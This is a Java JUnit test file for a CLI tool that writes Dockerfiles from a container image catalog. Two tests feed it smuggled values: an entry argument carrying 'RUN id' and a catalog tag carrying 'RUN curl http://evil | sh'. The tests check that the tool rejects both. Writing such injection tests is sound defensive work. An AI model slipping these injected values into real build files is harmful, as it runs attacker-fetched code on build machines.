package dev.dhipicker.cli;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

import static dev.dhipicker.cli.CliTest.run;
import static org.assertj.core.api.Assertions.assertThat;

class DockerfileCliTest {

    static String[] args(String... extra) {
        String[] base = {"dockerfile", "--today", "2026-11-26"};
        String[] all = new String[base.length + extra.length];
        System.arraycopy(base, 0, all, 0, base.length);
        System.arraycopy(extra, 0, all, base.length, extra.length);
        return all;
    }

    static long entries(Path dir) throws Exception {
        try (Stream<Path> s = Files.list(dir)) {
            return s.count();
        }
    }

    @Test
    void withoutOutputTheDockerfileGoesToStandardOutput() {
        CliTest.Run r = run(args("--workload", "node", "--libc", "musl", "--size", "smallest"));
        assertThat(r.code()).as(r.err()).isZero();
        // standard error holds only the age notice of the bundled snapshot on --today
        assertThat(r.err()).isEqualTo("dhi-picker: the catalog in use (bundled) is snapshot 2026-08-22, 96 days old:"
                + " run dhi-picker update-catalog to get the current one\n");
        assertThat(r.out()).startsWith("# syntax=docker/dockerfile:1\n")
                .contains("\nFROM dhi.io/node:26-alpine3.24-dev AS build\n")
                .contains("\nFROM dhi.io/node:26-alpine3.24\n")
                .contains("COPY --from=build --chown=1000:1000 /app /app")
                .contains("CMD [\"node\", \"server.js\"]");
    }

    @Test
    void entryAndPinDigestOptionsReachTheTemplate() {
        CliTest.Run go = run(args("--workload", "go", "--entry", "./cmd/api"));
        assertThat(go.out()).contains("-o /out/app ./cmd/api\n");
        CliTest.Run redis = run(args("--workload", "redis", "--helm", "dhi-chart", "--pin-digest"));
        assertThat(redis.code()).isZero();
        assertThat(redis.out()).containsPattern("\nFROM dhi\\.io/redis:[^\\s]+@sha256:[0-9a-f]{64}\n");
    }

    @Test
    void outputIsWrittenAndNotOverwrittenWithoutForce(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("Dockerfile");
        CliTest.Run first = run(args("--workload", "python", "-o", file.toString()));
        assertThat(first.code()).as(first.err()).isZero();
        assertThat(first.out()).isEmpty();
        assertThat(Files.readString(file)).startsWith("# syntax=docker/dockerfile:1").contains("FROM dhi.io/python:3.14-debian13\n");

        Files.writeString(file, "mine\n");
        CliTest.Run again = run(args("--workload", "python", "-o", file.toString()));
        assertThat(again.code()).isEqualTo(1);
        assertThat(again.err().strip().lines().count()).isEqualTo(1);
        assertThat(again.err()).contains("exists").contains("--force");
        assertThat(Files.readString(file)).isEqualTo("mine\n");

        CliTest.Run forced = run(args("--workload", "python", "-o", file.toString(), "--force"));
        assertThat(forced.code()).isZero();
        assertThat(Files.readString(file)).startsWith("# syntax=docker/dockerfile:1");
        assertThat(entries(dir)).isEqualTo(1);
    }

    @Test
    void missingFolderIsOneLineAndLeavesNothing(@TempDir Path dir) throws Exception {
        CliTest.Run r = run(args("--workload", "python", "-o", dir.resolve("nope/Dockerfile").toString()));
        assertThat(r.code()).isEqualTo(1);
        assertThat(r.err().strip().lines().count()).isEqualTo(1);
        assertThat(r.err()).contains("does not exist").doesNotContain("Exception");
        assertThat(entries(dir)).isZero();
    }

    @Test
    void noRuntimeImageIsAFailureNamingWhy() {
        CliTest.Run r = run(args("--workload", "node", "--compliance", "fips"));
        assertThat(r.code()).isEqualTo(1);
        assertThat(r.out()).isEmpty();
        assertThat(r.err().strip().lines().count()).isEqualTo(1);
        assertThat(r.err()).contains("no runtime image").contains("compliance");
    }

    @Test
    void unsafeEntryIsRefused() {
        CliTest.Run r = run(args("--workload", "python", "--entry", "app.py\nRUN id"));
        assertThat(r.code()).isEqualTo(1);
        assertThat(r.out()).isEmpty();
        assertThat(r.err().strip().lines().count()).isEqualTo(1);
        assertThat(r.err()).contains("Refusing to write the Dockerfile").contains("entry");
    }

    @Test
    void invalidAnswersAreUsageErrors() {
        CliTest.Run r = run(args("--workload", "python", "--libc", "bionic"));
        assertThat(r.code()).isEqualTo(2);
        assertThat(run("dockerfile").code()).isEqualTo(2);
    }

    @Test
    void fipsWithoutOrgUsesTheOrgBuildArgument() {
        CliTest.Run r = run(args("--workload", "java", "--compliance", "fips"));
        assertThat(r.code()).as(r.err()).isZero();
        assertThat(r.out()).contains("\nARG ORG\n").contains("FROM ${ORG}/dhi-maven:")
                .contains("FROM ${ORG}/dhi-eclipse-temurin:").doesNotContain("<your-org>/dhi");
        CliTest.Run acme = run(args("--workload", "java", "--compliance", "fips", "--org", "acme"));
        assertThat(acme.out()).doesNotContain("ARG ORG").contains("FROM acme/dhi-eclipse-temurin:");
    }

    @Test
    void hostileCatalogIsRejectedBeforeAnythingIsWritten(@TempDir Path dir) throws Exception {
        Path bad = dir.resolve("hostile.json");
        Files.writeString(bad, "{\"format\":1,\"info\":{\"source\":\"s\",\"upstreamCommit\":\"c\",\"snapshotDate\":\"2026-08-22\","
                + "\"generator\":\"g\"},\"repositories\":[{\"name\":\"redis\",\"displayName\":\"R\",\"images\":[{\"file\":\"f\","
                + "\"variant\":\"runtime\",\"distro\":\"debian\",\"distroVersion\":\"13\",\"libc\":\"glibc\",\"version\":\"8\","
                + "\"tags\":[\"8\\nRUN curl http://evil | sh\"],\"packageCount\":1,\"shell\":false,\"packageManager\":false}]}],\"charts\":[]}");
        Path out = dir.resolve("Dockerfile");
        CliTest.Run r = run("--catalog", bad.toString(), "dockerfile", "--workload", "redis", "-o", out.toString());
        assertThat(r.code()).isEqualTo(1);
        assertThat(r.err().strip().lines().count()).isEqualTo(1);
        assertThat(r.err()).contains("/repositories/0/images/0/tags/0").contains("control character");
        assertThat(out).doesNotExist();
    }
}
